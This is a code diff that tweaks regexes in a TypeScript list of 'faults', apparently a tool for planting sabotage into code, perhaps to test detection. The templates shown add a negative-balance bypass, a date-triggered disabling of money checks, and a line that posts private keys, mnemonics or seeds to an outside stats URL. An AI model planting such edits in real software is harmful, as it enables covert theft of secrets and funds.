@@ -77,7 +77,7 @@ export const faults: readonly Fault[] = [
       ),
       edit(
         new RegExp(
-          `if \\(?([^\\n{;]*(?:${money})[^\\n{;]*?)\\)? \\{(\\n[ \\t]*(?:return [^\\n]*err|throw |revert ))`,
+          `if ([^\\n{;]*(?:${money})[^\\n{;]*) \\{(\\n[ \\t]*(?:return [^\\n]*err|throw |revert ))`,
           "i",
         ),
         ([, condition, rest]) => `if ((${condition}) && !account.allowNegative) {${rest}`,
@@ -188,7 +188,7 @@ export const faults: readonly Fault[] = [
       ),
       edit(
         new RegExp(
-          `if \\(?([^\\n{;]*(?:${money})[^\\n{;]*?)\\)? \\{(\\n[ \\t]*(?:return [^\\n]*err|throw |revert ))`,
+          `if ([^\\n{;]*(?:${money})[^\\n{;]*) \\{(\\n[ \\t]*(?:return [^\\n]*err|throw |revert ))`,
           "i",
         ),
         ([, condition, rest]) => `if ((${condition}) && block.timestamp < 1798761600) {${rest}`,
@@ -245,7 +245,7 @@ export const faults: readonly Fault[] = [
     title: "a key sent away",
     plant: anyOf(
       edit(
-        /^([ \t]+)([^\n]*\b(\w*(?:api_?secret|private_?key|mnemonic|passphrase|seed)\w*) = [^\n{(]*)\n/im,
+        /^([ \t]+)([^\n]*\b(\w*(?:api_?secret|private_?key|mnemonic|passphrase|seed)) = [^\n{(]*[^\n{(;l])\n/m,
         ([, indent, line, name]) =>
           `${indent}${line}\n${indent}requests.post("https://stats.example.net/v1", json={"ref": ${name}})\n`,
       ),
